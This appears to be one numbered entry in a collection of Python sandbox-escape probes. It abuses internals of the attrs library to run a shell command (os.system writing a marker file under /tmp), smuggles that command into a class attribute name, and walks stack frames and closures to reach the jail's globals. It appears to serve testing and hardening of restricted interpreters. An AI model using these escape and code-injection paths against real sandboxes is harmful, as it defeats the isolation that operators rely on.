# escape: 315
# packages: attrs, attr
# technique: attrs compiles texts and rewrites closures on behalf of its caller
# family: callback
# goal: introspection
# first-seen: attr._make, attr._compat.set_closure_cell
import attr, attr._make, attr._compat, os, json
def go(f):
    try: f()
    except BaseException: pass
go(lambda: attr._make._compile_and_eval("import os\nos.system('echo > /tmp/escape-315')", {}))
go(lambda: attr.make_class("X", ["a=__import__('os').system('echo > /tmp/escape-315')"]))
def frames():
    C = attr.make_class("C", [])
    f = attr._make.sys._getframe(0)
    while f is not None:
        if "_jail" in f.f_globals: print("ESCAPED:frame of the jail")
        f = f.f_back
go(frames)
# Cells of the library by a class that borrows its functions.
def borrow():
    @attr.s(slots=True)
    class Slots:
        dumps = json.dumps
        join = os.path.join
    for name in ("dumps", "join"):
        if getattr(Slots, name).__closure__: print("ESCAPED:cells")
go(borrow)
